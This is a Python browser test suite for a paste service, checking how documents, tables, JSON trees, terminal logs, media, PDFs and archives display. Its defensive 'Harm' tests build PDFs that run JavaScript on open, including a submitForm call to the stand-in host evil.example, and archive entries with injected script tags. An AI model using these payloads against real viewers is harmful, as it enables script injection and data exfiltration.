"""What files mean, in a real browser: documents, tables, trees, terminals, players, archives, bytes; none does harm."""

from __future__ import annotations

import io
import math
import struct
import tarfile
import wave
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Browse, follow
from tests.browser.looks import check
from tests.browser.payloads import ANSI, CSVS, JS, JSONS, MARKDOWN, NAMES, TEXTS
from tests.browser.test_hostile import Visit, paste
from tests.nodes import Node

pytestmark = pytest.mark.browser

README = """# Pasting at night

A document with *everything*: ~~old~~ new, `code`, [a link](https://example.org), and a note[^1].

- [x] tables
- [ ] sleep
  1. one
  2. two

| part | state | cost |
|:-----|:-----:|-----:|
| roof | done  | 1.50 |
| door | open  | 20   |

> Quoted, with `code` in it.

```python
def night(hours: int) -> str:
    return "dark" * hours  # and quiet
```

![the roof](roof.png) ![far away](https://evil.example/x.png)

[^1]: At the end of the page.
"""
CSV = "city,people,since\nOslo,709037,1048\nRome,2748109,-753\nParis,2102650,-250\n,,\n" + "".join(
    f"Town {number},{number * 37 % 1000},{1000 + number}\n" for number in range(40)
)
JSON = '{"name": "pastebin", "sizes": [1, 2.50, 1e9], "nested": {"a": {"b": {"c": [null, true, "x"]}}}, "empty": []}\n'
ANSI_LOG = (
    "\x1b[1;32m$ make\x1b[0m test\n\x1b[33mwarning:\x1b[0m 3 things\n\x1b[31;1merror:\x1b[0m \x1b[4mno\x1b[0m\n"
    "10%\r60%\r\x1b[32m100%\x1b[0m done\n"
    + "".join(
        f"\x1b[48;5;{n}m {n:3} \x1b[0m\x1b[38;5;{n}m {n:3} \x1b[0m" + ("\n" if n % 8 == 7 else "") for n in range(64)
    )
    + "\n"
)


def png() -> bytes:
    from PIL import Image

    image = io.BytesIO()
    Image.new("RGB", (320, 160), (11, 107, 94)).save(image, "PNG")
    return image.getvalue()


def sound() -> bytes:
    written = io.BytesIO()
    with wave.open(written, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
        file.writeframes(b"".join(struct.pack("<h", int(9000 * math.sin(t / 4))) for t in range(8000)))
    return written.getvalue()


def pdf(script: str = "") -> bytes:
    """One page, which runs a script when it is opened."""
    action = f"/OpenAction<</S/JavaScript/JS({script})>>" if script else ""
    text = b"BT /F1 40 Tf 40 100 Td (A page) Tj ET"
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{action}>>".encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\0\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + one + b"endobj\n"
    start = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % start)


def archive(names: list[str], mode: str = "w") -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode=mode) as tar:  # type: ignore[call-overload]
        for name in names:
            info = tarfile.TarInfo(name)
            content = f"<script>{JS}</script> of {name!r}\n".encode("utf-8", "replace")
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return written.getvalue()


async def several(node: Node, files: list[dict[str, Any]]) -> str:
    return str((await paste(node, {"title": "Several kinds", "files": files}))["url"])


@pytest.fixture(params=[True, False], ids=["scripts", "no-scripts"])
def scripts(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


async def test_each_kind_has_its_view_and_its_source(browse: Browse, node: Node, scripts: bool) -> None:
    kinds = {
        "README.md": (README, "article.document h3", "Pasting at night"),
        "a.csv": (CSV, ".grid tbody td", "Oslo"),
        "a.ansi": (ANSI_LOG, "pre.screen .B.f2", "$ make"),
    }
    async with browse(java_script_enabled=scripts) as watched:
        page = watched.page
        for name, (content, selector, text) in kinds.items():
            created = await node.paste(content, name=name)
            await page.goto(created["url"])
            await expect(page.locator(selector).first).to_have_text(text)
            await follow(page.get_by_role("link", name="Source"))
            await expect(page.locator("pre.code.d2, pre.code.d1")).to_have_count(1)
            assert await page.locator("article, .grid, .screen").count() == 0
        created = await node.paste(JSON, name="a.json")
        await page.goto(created["url"])
        await expect(page.locator("pre.code .nt").first).to_have_text('"name"')
        await follow(page.get_by_role("link", name="Tree"))
        assert await page.locator(".values details").count() == 6
        await expect(page.locator(".values .m").nth(1)).to_have_text("2.50")


async def test_columns_sort(browse: Browse, node: Node) -> None:
    created = await node.paste(CSV, name="a.csv")
    async with browse() as watched:
        page = watched.page
        await page.goto(created["url"])
        people = page.get_by_role("columnheader", name="people")
        await people.get_by_role("button").click()
        await expect(people).to_have_attribute("aria-sort", "ascending")
        first = page.locator("tbody tr").first
        await expect(first).to_contain_text("Town 0")
        await people.get_by_role("button").click()
        await expect(first).to_contain_text("Rome")
        assert (await page.locator("tbody tr").last.inner_text()).split() == ["4"], "empty cells come last"
        await page.get_by_role("columnheader", name="city").get_by_role("button").focus()
        await page.keyboard.press("Enter")
        await expect(first).to_contain_text("Oslo")


async def test_branches_open_and_close_together(browse: Browse, node: Node) -> None:
    created = await node.paste(JSON, name="a.json")
    async with browse() as watched:
        page = watched.page
        await page.goto(f"{created['url']}?view=tree")
        await page.get_by_role("button", name="Open all").click()
        await expect(page.get_by_text('"c"')).to_be_visible()
        await page.get_by_role("button", name="Close all").click()
        await expect(page.get_by_text('"sizes"')).to_be_hidden()


async def test_a_folder_of_files(browse: Browse, node: Node, scripts: bool) -> None:
    files = [
        {"name": "docs/README.md", "content": README + "\n[the code](src/main.py) [nothing](src/gone.py)\n"},
        {"name": "src/main.py", "content": "print(1)\n"},
        {"name": "roof.png", "content": __import__("base64").b64encode(png()).decode(), "encoding": "base64"},
        {"name": "data.csv", "content": CSV},
    ]
    url = await several(node, files)
    async with browse(java_script_enabled=scripts) as watched:
        page = watched.page
        await page.goto(url)
        await expect(page.locator(".index summary bdi")).to_have_text(["docs", "src"])
        await expect(page.get_by_role("link", name="the code")).to_have_attribute("href", "#file-2")
        picture = page.locator("article img")
        await picture.scroll_into_view_if_needed()
        await expect(picture).to_have_js_property("naturalWidth", 320)
        assert await page.get_by_role("link", name="nothing").count() == 0
        await follow(page.locator("#file-4").get_by_role("link", name="Source"))
        assert page.url.endswith("?view=source&file=4#file-4")
        assert await page.locator("article.document").count() == 1, "the others stay as they were"
        assert await page.locator(".grid").count() == 0


async def test_players_and_viewers(browse: Browse, node: Node) -> None:
    async with browse() as watched:
        page = watched.page
        created = await node.paste(sound(), name="tone.wav")
        await page.goto(created["url"])
        player = page.locator("audio")
        assert await player.evaluate(
            "async a => { a.load(); a.preload = 'auto'; await new Promise((ok, no) => {"
            " a.onloadedmetadata = ok; a.onerror = no }); return a.duration }"
        ) == pytest.approx(1, abs=0.01)
        created = await node.paste(pdf(), name="page.pdf")
        await page.goto(created["url"])
        assert f"{created['url']}/raw" not in watched.requests, "nothing of it is here before somebody asks for it"
        async with page.expect_request(f"{created['url']}/raw"):
            await page.get_by_text("Show the document here").click()


async def test_archives_and_their_files(browse: Browse, node: Node, scripts: bool) -> None:
    created = await node.paste(archive(["src/a.txt", "src/deep/b.txt", "top.txt"]), name="all.tar")
    async with browse(java_script_enabled=scripts) as watched:
        page = watched.page
        await page.goto(created["url"])
        await expect(page.locator(".drawing.tree a")).to_have_text(["b.txt", "a.txt", "top.txt"])
        await follow(page.get_by_role("link", name="a.txt"))
        assert await page.locator("body").inner_text() == f"<script>{JS}</script> of 'src/a.txt'\n"
        await page.goto(f"{created['url']}?view=hex")
        await expect(page.locator("pre.hex")).to_contain_text("00000000  73 72 63 2f 61 2e 74 78")
        packed = await node.paste(archive(["src/a.txt", "b.txt"], "w:gz"), name="all.tar.gz")
        await page.goto(packed["url"])
        await expect(page.locator(".drawing.tree bdi")).to_have_text(["src", "a.txt", "b.txt"])
        assert await page.locator(".drawing.tree a").count() == 0


async def test_pages_of_bytes(browse: Browse, node: Node) -> None:
    created = await node.paste(bytes(range(256)) * 100, name="a.bin")
    async with browse() as watched:
        page = watched.page
        await page.goto(created["url"])
        for word, first in (
            ("Next", "00001000"),
            ("Last", "00006000"),
            ("Previous", "00005000"),
            ("First", "00000000"),
        ):
            await follow(page.get_by_role("link", name=word))
            assert (await page.locator("pre.hex").inner_text()).startswith(first)


async def test_what_can_be_read_once_shows_itself_and_its_source(browse: Browse, node: Node) -> None:
    created = await node.paste(README, name="README.md", burn=True)
    async with browse() as watched:
        page = watched.page
        await page.goto(created["url"])
        await follow(page.get_by_role("button", name="Open and delete"))
        await expect(page.locator("article h3")).to_have_text("Pasting at night")
        await expect(page.locator("pre.code.d2")).to_contain_text("# Pasting at night")
        assert await page.locator("nav.views").count() == 0


# Harm


@pytest.mark.parametrize(
    ("extension", "texts"),
    [("md", MARKDOWN + TEXTS[::2]), ("ansi", ANSI + TEXTS[::8]), ("csv", CSVS + TEXTS[::8]), ("json", JSONS)],
)
async def test_no_view_does_harm(browse: Browse, node: Node, extension: str, texts: list[str]) -> None:
    async with browse() as watched:
        visit = Visit(watched)
        for number, text in enumerate(texts):
            created = await paste(node, {"files": [{"name": f"x.{extension}", "content": text}]})
            if extension == "json":
                await visit(f"{created['url']}?view=tree")
                assert await watched.page.locator(".values").count() == 1
            if number % 4 == 0:
                await visit(f"{created['url']}?view=source")
                await visit(f"{created['files'][0]['raw_url']}?ansi=strip")
            await visit(created["url"])
            for link in await watched.page.locator("main article a[href]").all():
                href = await link.get_attribute("href")
                assert href is not None
                assert href.lower().startswith(("http", "mailto:", "#")), text


async def test_no_name_does_harm(browse: Browse, node: Node) -> None:
    async with browse() as watched:
        visit = Visit(watched)
        tar = await node.paste(archive([name.replace("\0", "") for name in NAMES]), name="x.tar")
        await visit(tar["url"])
        assert await watched.page.locator(".drawing.tree a").count() == len(NAMES)
        for link in await watched.page.locator(".drawing.tree a").all():
            assert (await link.get_attribute("href") or "").startswith(f"/{tar['slug']}/raw/-/")
        kept = [name.replace("\0", "").replace("\r\n", "") for name in NAMES]
        for name in kept:
            async with node.http.post(
                f"{node.url}/api/v1/pastes",
                json={"files": [{"name": name, "content": MARKDOWN[0]}, {"name": "b/c.md", "content": f"[x]({name})"}]},
            ) as response:
                if response.status == 201:
                    await visit((await response.json())["url"])


@pytest.mark.parametrize("script", ["app.alert(1)", "this.submitForm('https://evil.example/')", JS])
async def test_a_document_that_runs_scripts_does_so_in_its_viewer_only(
    browse_whole: Browse, node: Node, script: str
) -> None:
    created = await node.paste(pdf(script.replace("(", "\\(").replace(")", "\\)")), name="x.pdf")
    async with browse_whole() as watched:
        page = watched.page
        await page.goto(created["url"])
        await page.wait_for_load_state("networkidle")
        assert watched.offences == [], "it is not opened before somebody wants it"
        async with page.expect_response(created["raw_url"]):
            await page.get_by_text("Show the document here").click()
        await page.wait_for_load_state("networkidle")
        assert await page.evaluate("window.pwned") is None
        # a viewer may show messages of its documents
        watched.offences = [offence for offence in watched.offences if offence != "alert: 1"]


# Looks


async def test_pictures(browse: Browse, node: Node) -> None:
    pages: dict[str, str] = {}
    for name, content in (("README.md", README), ("cities.csv", CSV), ("build.log", ANSI_LOG)):
        pages[f"view-{name.partition('.')[2]}"] = (await node.paste(content, name=name))["url"]
    pages["view-json"] = (await node.paste(JSON, name="a.json"))["url"] + "?view=tree"
    pages["view-tar"] = (
        await node.paste(archive([f"src/f{n}/x{n}.py" for n in range(12)] + ["LICENSE"]), name="a.tar")
    )["url"]
    pages["view-bin"] = (await node.paste(bytes(range(256)) * 40, name="a.bin"))["url"]
    pages["view-image"] = (await node.paste(png(), name="roof.png"))["url"]
    pages["view-wav"] = (await node.paste(sound(), name="tone.wav"))["url"]
    pages["view-pdf"] = (await node.paste(pdf(), name="page.pdf"))["url"]
    pages["view-malformed"] = (await node.paste("{", name="x.json"))["url"] + "?view=tree"
    pages["view-folder"] = await several(
        node,
        [
            {"name": "docs/guide.md", "content": README},
            {"name": "src/app/main.py", "content": "print('hi')\n"},
            {"name": "src/app/x.csv", "content": CSV[:90]},
        ],
    )
    async with browse() as watched:
        page = watched.page
        for name, url in pages.items():
            await page.goto(url)
            await check(page, name)
